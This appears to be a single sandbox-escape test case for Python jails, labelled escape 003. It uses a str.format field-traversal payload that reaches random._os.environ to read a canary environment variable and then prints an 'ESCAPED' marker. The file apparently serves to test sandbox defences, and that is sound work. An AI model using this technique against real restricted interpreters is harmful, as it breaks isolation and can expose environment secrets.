# escape: 003
# technique: str.format field traversal reads attributes and items
# family: attr
# goal: env
# first-seen: Armin Ronacher 2016; RestrictedPython CVE-2023-41039
import random
s = '{0._os.environ[JAIL_CANARY]}'.format(random)
if s: print('ESCAPED:env=' + s)
